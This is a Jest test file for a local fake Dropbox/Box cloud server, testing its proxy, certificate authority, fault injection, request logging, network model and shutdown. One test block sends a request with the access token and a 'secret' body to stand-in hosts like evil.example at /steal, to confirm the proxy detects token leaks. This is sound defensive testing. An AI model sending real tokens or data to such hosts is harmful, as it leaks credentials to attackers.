import { connect } from 'node:net';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { startCloud, tokenDigest, type LoopbackCloud } from './index';
import { CloudClient } from './client';
import { rateLimited } from './dropbox';

let cloud: LoopbackCloud;
let client: CloudClient;
let accessToken: string;

beforeAll(async () => {
	cloud = await startCloud();
	accessToken = cloud.issueToken('dropbox').accessToken;
	client = new CloudClient(cloud, accessToken);
});

beforeEach(() => {
	cloud.reset();
	cloud.setNetwork({});
});

afterEach(() => expect(cloud.errors).toEqual([]));

afterAll(async () => {
	await client.close();
	await cloud.stop();
});

const upload = (path: string, bytes: Buffer | string) =>
	client.content('files/upload', { path }, bytes);

describe('the road to the vendors', () => {
	it('answers for both vendors under their own names, through the proxy, with a trusted certificate', async () => {
		const dropbox = await client.rpc('check/user', { query: 'ping' });
		expect(dropbox).toMatchObject({ status: 200, json: { result: 'ping' } });
		const boxClient = new CloudClient(cloud, cloud.issueToken('box').accessToken);
		const box = await boxClient.send('https://api.box.com/2.0/folders/0', { method: 'GET' });
		await boxClient.close();
		expect(box).toMatchObject({ status: 200, json: { id: '0', type: 'folder' } });
	});

	it('is trusted through its authority only', async () => {
		const distrusting = new CloudClient({ ...cloud, caPem: '' }, accessToken);
		await expect(distrusting.rpc('check/user', {})).rejects.toThrow(/certificate/);
		await distrusting.close();
	});

	it('keeps connections open, and counts those it accepted', async () => {
		const fresh = new CloudClient(cloud, accessToken);
		for (let call = 0; call < 5; call += 1) await fresh.rpc('check/user', {});
		await fresh.close();
		// Undici's pool may open a second one before it has seen that the first is free again.
		const { connections, requests, peakInFlight } = cloud.counters();
		expect([1, 2]).toContain(connections);
		expect({ requests, peakInFlight }).toEqual({ requests: 5, peakInFlight: 1 });
	});

	it('counts bodies, and the most requests under way at once', async () => {
		cloud.faults.add({ route: 'files/upload', times: 3, action: { kind: 'delay', delayMs: 100 } });
		await Promise.all(['/a', '/b', '/c'].map((path) => upload(path, 'x'.repeat(1000))));
		const { bytesReceived, peakInFlight, inFlight, requestsByRoute } = cloud.counters();
		expect({ bytesReceived, peakInFlight, inFlight, requestsByRoute }).toEqual({
			bytesReceived: 3000,
			peakInFlight: 3,
			inFlight: 0,
			requestsByRoute: { 'files/upload': 3 },
		});
	});

	it('hands its proxy and authority to child processes', () => {
		const { env } = cloud;
		expect(env).toMatchObject({ HTTPS_PROXY: cloud.proxyUrl, https_proxy: cloud.proxyUrl });
		expect(readFileSync(env.NODE_EXTRA_CA_CERTS ?? '', 'utf8')).toBe(cloud.caPem);
	});
});

describe('strangers', () => {
	it.each(['evil.example', 'www.box.com.evil.example', 'api.dropboxapi.com.evil.example'])(
		'lets %s be reached, so that a leaked token is seen',
		async (host) => {
			const reply = await client.send(`https://${host}/steal?x=1`, { body: 'secret' });
			expect(reply.status).toBe(418);
			expect(cloud.log.at(-1)).toMatchObject({ vendor: 'stranger', host, pathname: '/steal' });
			expect(cloud.log.at(-1)?.headers.authorization).toBe(tokenDigest(accessToken));
			expect(cloud.counters().requests).toBe(0);
		},
	);

	it('takes a vendor host on another port for a stranger', async () => {
		const reply = await client.send('https://api.dropboxapi.com:8443/2/check/user');
		expect(reply.status).toBe(418);
		expect(cloud.log.at(-1)).toMatchObject({
			vendor: 'stranger',
			host: 'api.dropboxapi.com:8443',
		});
	});

	it('records requests in clear, tunnelled or not, even to a vendor', async () => {
		expect((await client.send('http://api.dropboxapi.com/2/check/user')).status).toBe(418);
		const answer = await rawRequest(
			'GET http://api.box.com/2.0/users/me HTTP/1.1\r\nHost: x\r\n\r\n',
		);
		expect(answer).toMatch(/^HTTP\/1.1 418 /);
		expect(cloud.log.map(({ vendor, host }) => `${vendor} ${host}`)).toEqual([
			'stranger api.dropboxapi.com:80',
			'stranger api.box.com:80',
		]);
	});
});

describe('the log', () => {
	it('holds no token in clear, but the same digest for the same token', async () => {
		await upload('/a', 'x');
		const [clientId, secret] = ['test-app', 'test-app-secret'];
		const { refreshToken = '' } = cloud.issueToken('dropbox');
		const form = new URLSearchParams({
			grant_type: 'refresh_token',
			refresh_token: refreshToken,
			client_id: clientId,
			client_secret: secret,
		});
		const issued = await formPost('https://api.dropboxapi.com/oauth2/token', form);
		const text = JSON.stringify(cloud.log);
		for (const clear of [accessToken, refreshToken, secret, issued.json.access_token]) {
			expect(text.split(`"${clear}"`)).toHaveLength(1);
		}
		const digest = `sha256:${createHash('sha256').update(accessToken).digest('hex').slice(0, 16)}`;
		expect(cloud.log[0]).toMatchObject({
			vendor: 'dropbox',
			route: 'files/upload',
			argument: { path: '/a' },
			status: 200,
			requestBytes: 1,
			headers: { authorization: digest },
		});
	});
});

describe('faults', () => {
	it('answers in place of the vendor, who never sees the request', async () => {
		cloud.faults.add({ route: 'files/upload', action: rateLimited(7) });
		const reply = await upload('/a', 'x');
		expect(reply).toMatchObject({
			status: 429,
			headers: { 'retry-after': '7' },
			json: { error: { reason: { '.tag': 'too_many_requests' }, retry_after: 7 } },
		});
		expect(cloud.dropbox.files()).toEqual([]);
		expect((await upload('/a', 'x')).status).toBe(200);
	});

	it('strikes after so many matching requests, so often, and where its condition holds', async () => {
		cloud.faults.add({
			route: /upload$/,
			when: (request) => (request.argument as { path: string }).path.startsWith('/bad'),
			skip: 1,
			times: 2,
			action: { kind: 'reply', status: 503 },
		});
		const statuses: number[] = [];
		for (const name of ['bad', 'good', 'bad', 'good', 'bad', 'bad']) {
			statuses.push((await upload(`/${name}`, name)).status);
		}
		expect(statuses).toEqual([200, 200, 503, 200, 503, 200]);
		expect(cloud.counters().faultsStruck).toEqual({ reply: 2 });
	});

	it.each([
		['resetBefore', { kind: 'resetBefore' }, 0],
		['resetDuring', { kind: 'resetDuring', afterBytes: 100_000 }, 0],
		['loseReply', { kind: 'loseReply' }, 1],
		['truncateReply', { kind: 'truncateReply', bytes: 10 }, 1],
	] as const)('%s breaks the connection with the file stored or not', async (_, action, stored) => {
		cloud.faults.add({ route: 'files/upload', action });
		await expect(upload('/a', Buffer.alloc(1_000_000))).rejects.toThrow();
		await cloud.idle();
		expect(cloud.dropbox.files()).toHaveLength(stored);
		expect(cloud.log[0]).toMatchObject({ fault: action.kind });
	});

	it('lets an answer trickle, and another never end', async () => {
		cloud.faults.add({ route: 'check/user', action: { kind: 'slowReply', bytesPerSecond: 200 } });
		const startedAt = performance.now();
		expect((await client.rpc('check/user', { query: 'x'.repeat(40) })).status).toBe(200);
		expect(performance.now() - startedAt).toBeGreaterThan(200);

		const action = { kind: 'endlessReply', status: 200, chunk: ' '.repeat(1000) } as const;
		cloud.faults.add({ route: 'check/user', action });
		const reply = await rawTlsBytes(100_000);
		expect(reply).toBeGreaterThanOrEqual(100_000);
		await cloud.idle();
	});

	it('expires the token of the request it strikes', async () => {
		const other = new CloudClient(cloud, cloud.issueToken('dropbox').accessToken);
		cloud.faults.add({ action: { kind: 'expireToken' } });
		const reply = await other.rpc('check/user', {});
		expect(reply).toMatchObject({
			status: 401,
			json: { error: { '.tag': 'expired_access_token' } },
		});
		expect((await other.rpc('check/user', {})).status).toBe(401);
		expect((await client.rpc('check/user', {})).status).toBe(200);
		await other.close();
	});

	it("changes the vendor's state first", async () => {
		const run = () => void cloud.dropbox.putFile('/a', 'somebody else');
		cloud.faults.add({ route: 'files/upload', action: { kind: 'before', run } });
		expect((await upload('/a', 'mine')).json.error_summary).toMatch(/^path\/conflict\/file/);
	});
});

describe('overlapping commits', () => {
	const finishTwo = async (inOrder: boolean, headers: Record<string, string>[] = [{}, {}]) => {
		const one = async (headersOfOne: Record<string, string>) => {
			const entries: unknown[] = [];
			const route = 'files/upload_session/finish_batch_v2';
			expect((await client.rpc(route, { entries }, headersOfOne)).status).toBe(200);
		};
		let arrived = 0;
		let bothAreThere: () => void = () => {};
		const both = new Promise<void>((resolve) => (bothAreThere = resolve));
		const run = async (): Promise<void> => {
			arrived += 1;
			if (arrived === 2) bothAreThere();
			if (!inOrder) await both;
		};
		cloud.faults.add({ route: /finish/, times: 2, action: { kind: 'before', run } });
		if (!inOrder) return void (await Promise.all(headers.map(one)));
		for (const header of headers) await one(header);
	};

	it('are none when one follows the other', async () => {
		await finishTwo(true);
		expect(cloud.counters().overlappingCommits).toBe(0);
	});

	it('are counted for one account and root', async () => {
		await finishTwo(false);
		expect(cloud.counters().overlappingCommits).toBe(1);
	});

	it('are none when the roots differ', async () => {
		const root = JSON.stringify({ '.tag': 'namespace_id', namespace_id: '1000000100' });
		await finishTwo(false, [{}, { 'dropbox-api-path-root': root }]);
		expect(cloud.counters().overlappingCommits).toBe(0);
	});

	it('include a job until its result has been told', async () => {
		const route = 'files/upload_session/finish_batch';
		const first = await client.rpc(route, { entries: [] });
		const check = () =>
			client.rpc('files/upload_session/finish_batch/check', {
				async_job_id: first.json.async_job_id,
			});
		await client.rpc(route, { entries: [] });
		expect(cloud.counters().overlappingCommits).toBe(1);
		expect((await check()).json).toEqual({ '.tag': 'in_progress' });
		expect((await check()).json).toEqual({ '.tag': 'complete', entries: [] });
		cloud.reset();
		const again = await client.rpc(route, { entries: [] });
		expect(again.json['.tag']).toBe('async_job_id');
		expect(cloud.counters().overlappingCommits).toBe(0);
	});
});

describe('the network model', () => {
	it('adds latency to connections and requests', async () => {
		const fresh = new CloudClient(cloud, accessToken);
		const timed = async () => {
			const startedAt = performance.now();
			await fresh.rpc('check/user', {});
			return performance.now() - startedAt;
		};
		cloud.setNetwork({ connectionLatencyMs: 80 });
		expect(await timed()).toBeGreaterThanOrEqual(75);
		cloud.setNetwork({ requestLatencyMs: 60 });
		expect(await timed()).toBeGreaterThanOrEqual(55);
		await fresh.close();
	});

	it('starts each connection slowly, and bounds all of them together', async () => {
		const slowStart = {
			initialBytesPerRoundTrip: 10_000,
			roundTripMs: 20,
			maxBytesPerSecond: 50e6,
		};
		cloud.setNetwork({ slowStart });
		const fresh = new CloudClient(cloud, accessToken);
		const timed = async (bytes: number) => {
			const startedAt = performance.now();
			await fresh.content('files/upload', { path: `/${startedAt}` }, Buffer.alloc(bytes));
			return performance.now() - startedAt;
		};
		// 10 + 20 + 40 + 80 + 160 + 320 kB are six round trips.
		expect(await timed(630_000)).toBeGreaterThanOrEqual(90);
		cloud.setNetwork({ totalBytesPerSecond: 2e6 });
		expect(await timed(400_000)).toBeGreaterThanOrEqual(170);
		await fresh.close();
	});
});

describe('stopping', () => {
	it('leaves no file and no connection behind, even with a request under way', async () => {
		const other = await startCloud();
		const caller = new CloudClient(other, other.issueToken('dropbox').accessToken);
		other.faults.add({ action: { kind: 'delay', delayMs: 60_000 } });
		const call = caller.rpc('check/user', {}).catch((error: Error) => error);
		while (other.counters().inFlight === 0) await new Promise((resolve) => setImmediate(resolve));
		await other.stop();
		expect(await call).toBeInstanceOf(Error);
		expect(existsSync(other.env.NODE_EXTRA_CA_CERTS ?? '')).toBe(false);
		await caller.close();
	});
});

function formPost(url: string, form: URLSearchParams) {
	const plain = new CloudClient(cloud);
	const headers = { 'content-type': 'application/x-www-form-urlencoded' };
	const sent = plain.send(url, { headers, body: form.toString() });
	return sent.finally(() => plain.close());
}

function rawRequest(text: string): Promise<string> {
	return new Promise((resolve, reject) => {
		const socket = connect(Number(new URL(cloud.proxyUrl).port), '127.0.0.1', () => {
			socket.write(text);
		});
		socket.once('data', (data) => {
			resolve(data.toString());
			socket.destroy();
		});
		socket.once('error', reject);
	});
}

/** Reads an answer's body up to so many bytes, then goes away. */
async function rawTlsBytes(limit: number): Promise<number> {
	const { request } = await import('undici');
	const reply = await request('https://api.dropboxapi.com/2/check/user', {
		dispatcher: client.dispatcher,
		method: 'POST',
		headers: { authorization: `Bearer ${accessToken}`, 'content-type': 'application/json' },
		body: '{}',
	});
	let bytes = 0;
	for await (const chunk of reply.body) {
		bytes += (chunk as Buffer).length;
		if (bytes >= limit) break;
	}
	return bytes;
}
